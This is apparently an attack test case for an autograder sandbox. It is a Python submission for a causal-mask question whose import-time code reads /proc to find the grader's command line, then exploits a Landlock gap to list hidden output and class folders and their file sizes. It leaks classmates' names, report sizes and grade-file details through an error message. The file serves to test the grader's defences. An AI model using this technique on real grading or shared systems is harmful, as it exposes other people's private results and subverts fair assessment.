# attack: lists OUT and DIR (found on the grader's command line) and stats their files: Landlock's ruleset handles reading files (LANDLOCK_ACCESS_FS_READ_FILE) but not LANDLOCK_ACCESS_FS_READ_DIR, and stat needs no right, so a hidden folder can be listed and its files' sizes read; the names of classmates and the sizes of their reports (a failing report is longer than a full-marks one) and of grades.csv come back in the error message (listed at import, so that a refusal costs the whole question)
# expect: module=q01_causal_mask status=error match=Permission denied|no grading command among its ancestors
# path: grade-dir user
# reproduced: zed's q1 said 'OUT:.grading.lock(0),ann.feedback.md(4460),ann.json(1484),grades.csv(71),grading.log(430) | DIR:ann,zed'
"""Question 1, written to list the folders it may not read."""
import os

import torch
from torch import Tensor


def _look() -> str:
    found, pid = [], os.getpid()
    while pid > 1:
        arguments = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        if b"--out" in arguments:
            out = os.fsdecode(arguments[arguments.index(b"--out") + 1])
            klass = os.fsdecode(arguments[arguments.index(b"grade") + 1])
            found.append("OUT:" + ",".join(f"{n}({os.stat(os.path.join(out, n)).st_size})" for n in sorted(os.listdir(out))))
            found.append("DIR:" + ",".join(sorted(os.listdir(klass))))
            break
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    else:  # its zygote is the first process it can see (namespaces of its own, under an ordinary user)
        raise ProcessLookupError("no grading command among its ancestors")
    import torch as _t
    kit = os.path.dirname(os.path.dirname(os.path.dirname(_t.__file__)))  # not the kit: find it from sys.path instead
    for entry in __import__("sys").path:
        if os.path.isdir(os.path.join(entry, "reference")):
            found.append("reference:" + ",".join(sorted(os.listdir(os.path.join(entry, "reference")))))
            found.append("suites:" + ",".join(sorted(os.listdir(os.path.join(entry, "autograder", "suites")))))
    return " | ".join(found)


FOUND = _look()  # at import: a refused listing makes the whole question an error


def prefix_average(x: Tensor) -> Tensor:
    raise ValueError(FOUND)


def causal_mask(T: int) -> Tensor:
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    return scores.masked_fill(~mask, float("-inf"))
